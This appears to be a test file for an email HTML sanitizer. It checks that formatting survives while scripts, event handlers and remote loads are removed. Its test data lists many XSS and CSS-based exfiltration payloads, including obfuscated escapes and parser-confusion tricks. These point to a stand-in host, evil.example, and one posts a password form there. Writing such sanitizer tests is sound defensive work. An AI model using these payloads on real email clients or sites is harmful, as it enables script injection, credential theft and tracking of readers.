import { expect, test } from "vitest";

import { makeSafe } from "./safe-html.ts";

const pictures = new Map([["logo@oak", "/own/logo"]]);
const show = (html: string, withPictures = false) =>
  makeSafe(html, { withPictures, pictures }) ?? { html: "too much of a maze", hasPictures: false };

test.each([
  `<script>steal()</script>`,
  `<svg><script>steal()</script></svg>`,
  `<img src=x onerror="steal()">`,
  `<body onload="steal()">`,
  `<a href="javascript:steal()">Read</a>`,
  `<a href="data:text/html,<script>steal()</script>">Read</a>`,
  `<a href="vbscript:steal()">Read</a>`,
  `<iframe srcdoc="<script>steal()</script>"></iframe>`,
  `<object data="https://evil.example/steal"></object><embed src="https://evil.example/steal">`,
  `<base href="https://evil.example/steal/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/steal">`,
  `<link rel="stylesheet" href="https://evil.example/steal.css">`,
  `<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>`,
  `<video poster="https://evil.example/steal"></video><audio src="https://evil.example/steal"></audio>`,
  `<p style="background:url('https://evil.example/steal')">x</p>`,
  `<p style="background: URL( https://evil.example/steal )">x</p>`,
  `<style>p{background:url(https://evil.example/steal)} @import "https://evil.example/steal";</style>`,
  `<style>/* < */ p{background-image:image-set("https://evil.example/steal" 1x)}</style>`,
  `<table background="https://evil.example/steal"><tr><td>x</table>`,
  `<img srcset="https://evil.example/steal 2x" src="//evil.example/steal">`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=steal()></annotation-xml></math>`,
  `<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>`,
  `<template><img src=x onerror=steal()></template>`,
])("removes everything in %s that runs code, sends data or loads content", (hostile) => {
  const { html } = show(`<p>Hello</p>${hostile}`);
  expect(html).toContain("<p>Hello</p>");
  expect(html).not.toMatch(/steal|evil\.example/i);
});

test("keeps the appearance of an email, and opens its links in a new tab without a referrer", () => {
  const { html, hasPictures } = show(
    `<h1 style="color:#900">Offers</h1><table bgcolor="#eee"><tr><td align="center">Desk</td></tr></table><a href="https://oak.example/?a=1&b=2" target="_self" rel="opener">See</a><a href="#top">Top</a><a href="/dashboard">In</a>`,
  );
  expect(html).toContain(`<h1 style="color:#900">Offers</h1>`);
  expect(html).toContain(`<td align="center">Desk</td>`);
  expect(html).toContain(
    `<a target="_blank" rel="noopener noreferrer nofollow" href="https://oak.example/?a=1&amp;b=2">See</a>`,
  );
  expect(html).toContain(`<a>Top</a><a>In</a>`);
  expect(hasPictures).toBe(false);
});

test("shows embedded pictures, and those on other servers only on request", () => {
  const mail = `<img src="cid:logo@oak" alt="Logo"><img src="cid:unknown"><img src="data:image/png;base64,AAAA"><img src="http://oak.example/desk.png"><p style="background:url(https://oak.example/b.png)">x</p>`;
  const without = show(mail);
  expect(without).toMatchObject({ hasPictures: true });
  expect(without.html).toContain(`src="/own/logo"`);
  expect(without.html).toContain(`src="data:image/png;base64,AAAA"`);
  expect(without.html).not.toContain("oak.example");
  const all = show(mail, true);
  expect(all.html).toContain(`src="https://oak.example/desk.png"`);
  expect(all.html).toContain("url(https://oak.example/b.png)");
  expect(all.html).not.toContain("unknown");
});

test("rejects the HTML of an email with excessive nesting", () => {
  expect(makeSafe("<div>".repeat(30_000), { withPictures: false, pictures })).toBeNull();
});

test.each([
  String.raw`background:u\72l(https://evil.example/steal)`,
  String.raw`background:\75\72\6c(https://evil.example/steal)`,
  String.raw`background:\000075rl("https://evil.example/steal")`,
  String.raw`b\61 ckground:url(https://evil.example/steal)`,
  `background:url("https://evil.example/steal`,
  `background:u/**/rl(https://evil.example/steal)`,
  `background:/*url(*/url(https://evil.example/steal)/*)*/`,
  `background:\0https://evil.example/steal\0`,
  `background:image-set("https://evil.example/steal" 1x)`,
  `background:-webkit-image-set(url(https://evil.example/steal) 1x)`,
  String.raw`background:im\61ge-set("https://evil.example/steal" 1x)`,
  `background:cross-fade(url(https://evil.example/steal), red)`,
  `background:src("https://evil.example/steal")`,
  `--steal:url(https://evil.example/steal);background:var(--steal)`,
  `background:env(steal, url(https://evil.example/steal))`,
  `width:expression(steal())`,
  `width:attr(steal px)`,
  `behavior:url(https://evil.example/steal)`,
  `-moz-binding:url(https://evil.example/steal)`,
  `content:url(https://evil.example/steal)`,
  `cursor:url(https://evil.example/steal),auto`,
  `mask:url(https://evil.example/steal)`,
  `filter:url(https://evil.example/steal)`,
  `position:fixed;steal:1`,
  String.raw`color:red\7d steal\7b color:blue`,
  `font-family:"</style><img src=x onerror=steal()>"`,
  String.raw`font-family:"\3c/style\3e\3cimg src=x onerror=steal()\3e"`,
  String.raw`font-family:"a\"; background:url(https://evil.example/steal)"`,
])("does not load anything from the style %s, in an element or a style sheet", (style) => {
  const attribute = style.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
  for (const hostile of [
    `<b style="${attribute}">x</b>`,
    `<style>b{${style}}</style>`,
    `<style>@media all{b{${style}}}</style>`,
  ])
    for (const withPictures of [false, true]) {
      const { html } = show(`<p>Hello</p>${hostile}`, withPictures);
      expect(html).toContain("<p>Hello</p>");
      // If pictures are allowed, the plain address of a picture is expected.
      if (!withPictures || !html.includes("background:url(https://evil.example/steal)"))
        expect(html).not.toMatch(/steal|evil\.example/i);
    }
});

test.each([
  `@import "https://evil.example/steal";`,
  `@import url(https://evil.example/steal);`,
  String.raw`@\69mport "https://evil.example/steal";`,
  `@charset "steal";`,
  `@font-face{font-family:steal;src:url(https://evil.example/steal)}`,
  `@namespace steal url(https://evil.example/steal);`,
  `@supports (background:url(steal)){p{background:url(https://evil.example/steal)}}`,
  `@media all{@import "https://evil.example/steal";}`,
  `@media all{@media all{p{background:url(https://evil.example/steal)}}}`,
  `p[title="</style><img src=x onerror=steal()>"]{color:red}`,
  String.raw`p\3c steal{color:red}`,
  `<!-- @import "https://evil.example/steal"; -->`,
])("removes the whole style sheet %s", (sheet) => {
  const { html } = show(`<style>${sheet}</style><p>Hello</p>`, true);
  expect(html).not.toMatch(/steal|evil\.example|import|supports/i);
});

test("keeps the styles that mail programs write", () => {
  const styles = [
    `color:#1a1a1a;background-color:rgb(238, 238, 238);margin:0 auto !important`,
    `font-family:"Segoe UI",Arial,sans-serif;font-size:14px;line-height:1.5`,
    `border-bottom:1px solid rgba(0,0,0,.1);padding:8px 0;width:calc(100% - 20px);max-width:600px`,
    `background:linear-gradient(90deg,#fff,#eee)`,
  ];
  for (const style of styles)
    expect(show(`<style>td,p.x>a:hover{${style}}</style>`).html).toBe(`<style>td,p.x>a:hover{${style}}</style>`);
  const sheet = `@media only screen and (max-width: 600px){.wide{width:100% !important;display:block}}`;
  expect(show(`<style type="text/css"><!-- /* wide */ ${sheet} --></style>`).html).toBe(
    `<style type="text/css">${sheet}</style>`,
  );
  expect(show(`<p style="mso-line-height-rule:exactly;COLOR : Red;;zoom:1">x</p>`).html).toBe(
    `<p style="color:Red">x</p>`,
  );
});
